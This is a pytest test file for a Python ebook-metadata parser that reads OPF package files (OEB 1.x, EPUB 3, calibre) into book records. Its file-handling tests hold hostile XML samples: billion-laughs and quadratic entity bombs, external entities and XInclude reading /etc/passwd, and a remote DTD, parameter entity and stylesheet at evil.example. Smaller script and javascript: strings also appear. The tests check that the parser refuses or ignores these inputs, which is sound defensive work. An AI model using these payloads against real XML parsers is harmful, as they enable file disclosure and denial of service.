"""OPF → Book: OEB 1.x, OPF 2, EPUB 3, calibre's record (EPUB 3.3, OPF 2.0.1)."""

from pathlib import Path

import pytest

from shelflist import personal
from shelflist.errors import BadRecord, BadSource
from shelflist.model import Book, Extra, Note, Reading
from shelflist.readers import Chunk
from shelflist.readers.ebooks import opf
from tests.readers.ebooks.ebook_files import FIXTURES

HEAD = '<package xmlns="http://www.idpf.org/2007/opf" xmlns:opf="o" unique-identifier="u"><metadata xmlns:dc="d">'


def package(*elements: str, title: str = "<dc:title>The Salt Road</dc:title>", after: str = "") -> bytes:
    return f"{HEAD}{title}{''.join(elements)}</metadata>{after}</package>".encode()


def read(*elements: str, title: str = "<dc:title>The Salt Road</dc:title>", after: str = "") -> Book:
    return opf.parse(next(opf.split(package(*elements, title=title, after=after))))


def fixture(name: str) -> Book:
    return opf.parse(next(opf.split((FIXTURES / "opf" / name).read_bytes())))


def meta(target: str, **properties: str) -> str:
    return "".join(
        f'<meta refines="#{target}" property="{key.replace("_", "-")}">{value}</meta>'
        for key, value in properties.items()
    )


# --- titles ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("titles", "expected"),
    [
        pytest.param("<dc:title>Salt: a history</dc:title>", ("Salt", "a history", "", []), id="a colon"),
        pytest.param("<dc:title>Salt</dc:title><dc:title>Brine</dc:title>", ("Salt", "", "", ["Brine"]), id="two without types"),
        pytest.param(
            '<dc:title>Salt</dc:title><dc:title id="m">Brine</dc:title>' + meta("m", title_type="main"),
            ("Brine", "", "", ["Salt"]),
            id="main",
        ),
        pytest.param(
            '<dc:title id="a">b</dc:title><dc:title id="b">a</dc:title>' + meta("a", display_seq="2") + meta("b", display_seq="1"),
            ("a", "", "", ["b"]),
            id="display-seq",
        ),
        pytest.param(
            '<dc:title id="m">Salt</dc:title><dc:title id="s">A road</dc:title><dc:title id="e">2nd ed.</dc:title>'
            + meta("m", title_type="main") + meta("s", title_type="subtitle") + meta("e", title_type="edition"),
            ("Salt", "A road", "2nd ed.", []),
            id="subtitle and edition",
        ),
        pytest.param(
            '<dc:title id="m">Salt</dc:title><dc:title id="x">Salt, a road</dc:title>' + meta("x", title_type="expanded"),
            ("Salt", "", "", ["Salt, a road"]),
            id="expanded",
        ),
        pytest.param(
            '<dc:title id="m">塩</dc:title>' + meta("m", alternate_script="Shio"), ("塩", "", "", ["Shio"]), id="another script"
        ),
        pytest.param("<dc:title>&lt;script&gt;x</dc:title>", ("<script>x", "", "", []), id="row 1 markup"),
    ],
)  # fmt: skip
def test_titles(titles: str, expected: tuple[str, str, str, list[str]]) -> None:
    book = read(title=titles)
    assert (book.title, book.subtitle, book.edition, book.other_titles) == expected


@pytest.mark.parametrize("title", ["", "<dc:title/>", "<dc:title> \u00a0 </dc:title>"])
def test_row_28_no_title(title: str) -> None:
    with pytest.raises(BadRecord, match="no title") as caught:
        read('<dc:identifier id="u">x1</dc:identifier>', title=title)
    assert (caught.value.field, caught.value.record_id) == ("dc:title", "x1")


@pytest.mark.parametrize(
    ("title", "sort", "expected"),
    [
        ("The Salt Road", "Salt Road, The", (4, 0)),
        ("L'arte", "arte, L'", (2, 0)),
        ("Salt", "Salt", (0, 0)),
        ("塩の道", "しおのみち", (0, 1)),
    ],
)
def test_title_sort(title: str, sort: str, expected: tuple[int, int]) -> None:
    book = read(f'<meta name="calibre:title_sort" content="{sort}"/>', title=f"<dc:title>{title}</dc:title>")
    assert (book.nonfiling, len(book.extra)) == expected


# --- people ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("element", "expected"),
    [
        ("<dc:creator>Rina Oliva</dc:creator>", ("Oliva, Rina", ["aut"], True)),
        ('<dc:creator opf:file-as="Oliva, Rina" opf:role="trl">Rina Oliva</dc:creator>', ("Oliva, Rina", ["trl"], False)),
        ('<dc:creator opf:file-as="Sorting key">Rina Oliva</dc:creator>', ("Oliva, Rina", ["aut"], True)),
        ('<dc:creator opf:file-as="Oliva, Rina &amp; Weir, Tom">Rina Oliva</dc:creator>', ("Oliva, Rina", ["aut"], True)),
        ('<dc:contributor opf:role="unknown">Tom Weir</dc:contributor>', ("Weir, Tom", ["ctb"], True)),
        ('<dc:creator id="c">A. B. Oliva</dc:creator>' + meta("c", file_as="Oliva, Anna B.", role="edt"), ("Oliva, Anna B.", ["edt"], False)),
        ('<dc:creator id="c">Road Ebooks</dc:creator>' + meta("c", file_as="Road Ebooks"), ("Road Ebooks", ["aut"], False)),
        ('<dc:contributor id="c">The Weir Guild</dc:contributor>' + meta("c", file_as="Weir Guild, The"), ("The Weir Guild", ["ctb"], False)),
        ("<dc:creator>Oliva, Rina</dc:creator>", ("Oliva, Rina", ["aut"], False)),
        ('<meta property="media:narrator">Ada Lock</meta>', ("Lock, Ada", ["nrt"], True)),
    ],
)  # fmt: skip
def test_people(element: str, expected: tuple[str, list[str], bool]) -> None:
    (person,) = read(element).contributors
    assert (person.name, person.roles, person.inferred) == expected


def test_two_roles_and_a_program() -> None:
    book = read(
        '<dc:creator id="c">Rina Oliva</dc:creator>',
        meta("c", role="aut"),
        meta("c", role="ill"),
        '<dc:contributor opf:role="bkp">calibre (6.9.0) [https://calibre-ebook.com]</dc:contributor>',
    )
    assert [(c.name, c.roles) for c in book.contributors] == [("Oliva, Rina", ["aut", "ill"])]
    assert [e.tag for e in book.extra] == ["dc:contributor"]


# --- dates, identifiers, subjects, collections ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("elements", "expected"),
    [
        ("<dc:date>2019-05-25T00:00:00Z</dc:date>", ("2019-05-25", 2019, [])),
        ('<dc:date opf:event="modification">2020</dc:date><dc:date opf:event="publication">1865-07-04</dc:date>', ("1865-07-04", 1865, [])),
        ('<dc:date opf:event="creation">2020</dc:date>', ("", None, [])),
        ('<meta property="dcterms:modified">2020-01-01T00:00:00Z</meta>', ("", None, [])),
        ('<dc:date>0101-01-01T00:00:00+00:00</dc:date>', ("", None, [])),
        ('<dc:date>1998-12-31T23:00:00+00:00</dc:date>', ("1998-12-31", 1998, [])),
        ('<dc:date>1998-12-31T23:00:00+00:00</dc:date><meta name="calibre:rating" content="0"/>', ("1999-01-01", 1999, ["date"])),
        ('<dc:date>9999-12-31T23:00:00+00:00</dc:date><meta name="calibre:rating" content="0"/>', ("9999-12-31", 9999, [])),
        ('<meta property="dcterms:issued">2001</meta>', ("2001", 2001, [])),
    ],
)  # fmt: skip
def test_dates(elements: str, expected: tuple[str, int | None, list[str]]) -> None:
    book = read(elements)
    assert (book.date.raw, book.date.year, book.inferred) == expected


@pytest.mark.parametrize(
    ("element", "isbns", "identifiers", "links"),
    [
        ('<dc:identifier opf:scheme="ISBN">978-3-16-148410-0</dc:identifier>', ["9783161484100"], {}, 0),
        ("<dc:identifier>urn:isbn:9783161484100</dc:identifier>", ["9783161484100"], {}, 0),
        ("<dc:identifier>ISBN:9783161484100</dc:identifier>", ["9783161484100"], {}, 0),
        ("<dc:identifier>9783161484100</dc:identifier>", ["9783161484100"], {}, 0),
        ('<dc:identifier opf:scheme="ISBN">urn:uuid:12-34</dc:identifier>', [], {"uuid": ["12-34"]}, 0),
        ('<dc:identifier id="i">10.1000/abc</dc:identifier>' + meta("i", identifier_type="06"), [], {"doi": ["10.1000/abc"]}, 0),
        ("<dc:identifier>https://doi.org/10.1000/ABC</dc:identifier>", [], {"doi": ["10.1000/abc"]}, 0),
        ("<dc:identifier>https://books.example/1</dc:identifier>", [], {}, 1),
        ('<dc:identifier opf:scheme="amazon_it">B01</dc:identifier>', [], {"asin": ["B01"]}, 0),
        ('<dc:identifier opf:scheme="Local no.">7</dc:identifier>', [], {"local-no": ["7"]}, 0),
        ("<dc:identifier>javascript:alert(1)</dc:identifier>", [], {"other": ["javascript:alert(1)"]}, 0),
    ],
)  # fmt: skip
def test_identifiers(element: str, isbns: list[str], identifiers: dict[str, list[str]], links: int) -> None:
    book = read(element)
    assert ([n.isbn13 for n in book.isbns], book.identifiers, len(book.links)) == (isbns, identifiers, links)


def test_source_is_the_isbn_of_another_form() -> None:
    (number,) = read("<dc:source>urn:isbn:9780306406157</dc:source>").isbns
    assert (number.isbn13, number.cancelled, number.qualifier, number.valid()) == (
        "9780306406157",
        True,
        "source",
        False,
    )


@pytest.mark.parametrize(
    ("elements", "series", "notes"),
    [
        ('<meta name="calibre:series" content="Roads"/><meta name="calibre:series_index" content="1.50"/>', [("Roads", "1.5")], []),
        ('<meta property="belongs-to-collection" id="k">Roads</meta>' + meta("k", collection_type="series", group_position="2"), [("Roads", "2")], []),
        ('<meta property="belongs-to-collection" id="k">Roads</meta>' + meta("k", collection_type="set", group_position="2"), [], ["Roads, 2"]),
        ('<meta property="belongs-to-collection" id="k">Roads</meta>' + meta("k", group_position="2"), [("Roads", "2")], []),
        ('<meta property="belongs-to-collection">Roads</meta>', [], ["Roads"]),
        ('<meta name="calibre:series_index" content="1.0"/>', [], []),
    ],
)  # fmt: skip
def test_collections(elements: str, series: list[tuple[str, str]], notes: list[str]) -> None:
    book = read(elements)
    assert [(s.title, s.volume) for s in book.series] == series
    assert [n.text for n in book.notes] == notes


def test_subjects_by_authority() -> None:
    book = read(
        '<dc:subject id="a">Salt -- History</dc:subject>',
        meta("a", authority="LCSH", term="sh1"),
        '<dc:subject id="b">Salt</dc:subject>',
        meta("b", authority="DDC", term="553.632"),
        "<dc:subject>Roads</dc:subject>",
        '<meta property="schema:genre">Travel</meta>',
    )
    assert [(s.text(), s.kind, s.scheme) for s in book.subjects] == [
        ("Salt — History", "topic", "lcsh"),
        ("Salt", "keyword", ""),
        ("Roads", "keyword", ""),
        ("Travel", "genre", ""),
    ]
    assert [c.number for c in book.classes] == ["553.632"]
    assert book.extra == [Extra("term", "", [("", "sh1")])]


def test_description_in_paragraphs_and_at_length() -> None:
    book = fixture("epub3.opf")
    assert book.summary == ["From the pans to the pass.", "A long road.", "With maps."]
    assert [link.url for link in book.links] == [
        "https://books.example/ebooks/salt-road",
        "https://scans.example/123",
        "https://encyclopedia.example/Salt_Road",
    ]


def test_oeb() -> None:
    book = fixture("oeb1.opf")
    assert (book.title, book.isbns[0].isbn13, book.date.year, book.contributors[0].name) == (
        "Weirs and locks",
        "9780306406157",
        2001,
        "Weir, Tom",
    )


# --- the owner's ----------------------------------------------------------------------------------------------


def test_calibre() -> None:
    book = fixture("calibre.opf")
    assert (book.title, book.subtitle, book.nonfiling) == ("Il ponte di sale", "una storia", 3)
    assert book.reading == Reading(status="read", rating=18, added="2022-12-13", private="Lent to: Ada")
    assert Note("access", "Pubblico dominio") in book.notes
    shown = {field.tag for field in book.records[0].fields}
    assert {"custom column (status)", "custom column (private)", "custom column", "calibre:rating"} <= shown
    assert shown - opf.PERSONAL.keys() >= {"custom column", "dc:title", "cover"}


def test_columns_of_epub_3() -> None:
    text = '{"#read": {"datatype": "bool", "#value#": true, "name": "Read"}, "#n": {"datatype": "series", "#value#": "X", "#extra#": 2.0}}'
    book = read(f'<meta property="calibre:user_metadata">{text}</meta>')
    assert book.reading == Reading(status="read")
    assert book.extra == [Extra("custom column", "", [("#n", "X"), ("#n", "[2]")])]


def test_columns_that_cannot_be_read_are_private() -> None:
    book = read(
        '<meta name="calibre:user_metadata:#lent" content="{Ada"/>', '<meta name="calibre:annotation" content="{Bea"/>'
    )
    assert [extra.tag for extra in book.extra] == ["custom column (private)", "calibre:annotation"]
    personal.keep(book, opf.PERSONAL, ())
    assert not {"Ada", "Bea"} & set(str(book).replace("{", " ").replace("'", " ").split())


def test_nothing_personal_is_left_by_the_filter() -> None:
    book = fixture("calibre.opf")
    personal.keep(book, opf.PERSONAL, ())
    assert book.reading is None
    assert "Ada" not in str(book)
    assert "2022-12-13" not in str(book)


@pytest.mark.parametrize(
    ("text", "rating", "warned"),
    [
        ("10", 20, 0),
        ("8.00", 16, 0),
        ("1", 2, 0),
        ("0", None, 0),
        ("11", None, 1),
        ("nan", None, 1),
        ("1e999", None, 1),
    ],
)
def test_rating(text: str, rating: int | None, warned: int) -> None:
    book = read(f'<meta name="calibre:rating" content="{text}"/>')
    assert (book.reading.rating if book.reading else None, len(book.warnings)) == (rating, warned)


def test_cover_is_named() -> None:
    items = '<item id="x" href="a.xhtml"/><item id="art" href="img/c.jpg"/>'
    book = read('<meta name="cover" content="art"/>', after=f"<manifest>{items}</manifest>")
    assert Extra("cover", "", [("", "img/c.jpg")]) in book.records[0].fields


# --- files ----------------------------------------------------------------------------------------------------

TITLED = b"<dc:title>Salt</dc:title>"


@pytest.mark.parametrize(
    "head",
    [
        pytest.param(b'<!DOCTYPE p [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>', id="row 55 billion laughs"),
        pytest.param(b'<!DOCTYPE p [<!ENTITY a "' + b"b" * 9000 + b'">]>', id="row 56 quadratic"),
        pytest.param(b'<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>', id="row 57 external entity"),
        pytest.param(b'<!DOCTYPE p SYSTEM "http://evil.example/x.dtd">', id="row 58 remote DTD"),
        pytest.param(b'<!DOCTYPE p [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]>', id="row 59 parameter entity"),
        pytest.param(b'<?xml version="1.0" encoding="utf-7"?>', id="row 65 UTF-7"),
        pytest.param(b'<?xml version="1.0" encoding="nonsense"?>', id="row 62 no such encoding"),
    ],
)
def test_refused(head: bytes) -> None:
    with pytest.raises(BadSource):
        list(opf.split(head + package()))


def test_row_60_xinclude_and_stylesheet_are_ignored() -> None:
    data = b'<?xml-stylesheet href="http://evil.example/x.xsl"?>' + package('<xi:include href="file:///etc/passwd"/>')
    assert opf.parse(next(opf.split(data))).title == "The Salt Road"


def test_row_61_nested() -> None:
    with pytest.raises(BadSource, match="deep"):
        list(opf.split(package("<a>" * 100_000)))


def test_row_63_not_well_formed() -> None:
    (chunk,) = opf.split(package()[:-10])
    assert "line 1" in chunk.problem


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le"])
def test_row_65_utf_16(encoding: str) -> None:
    data = package("<dc:creator>Bronë</dc:creator>").decode().encode(encoding)
    assert opf.sniff(data, "x")
    assert opf.parse(next(opf.split(data))).contributors[0].name == "Bronë"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        pytest.param(package(), True, id="OPF"),
        pytest.param(b"<package><metadata><dc:title>x</dc:title></metadata></package>", True, id="no namespace"),
        pytest.param(b'<package xmlns="http://schemas.microsoft.com/packaging/2010/07/nuspec.xsd"><metadata><id>x</id><title>x</title></metadata></package>', False, id="another package"),
        pytest.param(b"<metadata><dc:title>x</dc:title></metadata>", False, id="Dublin Core"),
        pytest.param(b'<feed xmlns="http://www.w3.org/2005/Atom"/>', False, id="Atom"),
        pytest.param(b"<?xml", False, id="cut"),
        pytest.param(b"\xff\xfe\x00", False, id="bytes"),
    ],
)  # fmt: skip
def test_sniff(data: bytes, expected: bool) -> None:
    assert opf.sniff(data, "a.opf") is expected


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64, 1000])
def test_stream_at_every_size(size: int) -> None:
    data = (FIXTURES / "opf" / "oeb1.opf").read_bytes()
    blocks = [data[n : n + size] for n in range(0, len(data), size)]
    assert list(opf.stream(blocks)) == list(opf.split(data))


def test_parse_of_nonsense() -> None:
    for data in (b"", b"\xff", b"<a/>", b"<package>", b"<!DOCTYPE x SYSTEM 'y'><package/>"):
        with pytest.raises(BadRecord):
            opf.parse(Chunk(data, 1))


def test_real_files(shared_records: Path) -> None:
    files = sorted((shared_records / "opf").glob("*.opf"))
    books = []
    for path in files:
        data = path.read_bytes()
        assert opf.sniff(data[:65_536], path.name), path.name
        books += [opf.parse(chunk) for chunk in opf.split(data)]
    assert (len(files), len(books)) == (43, 43)
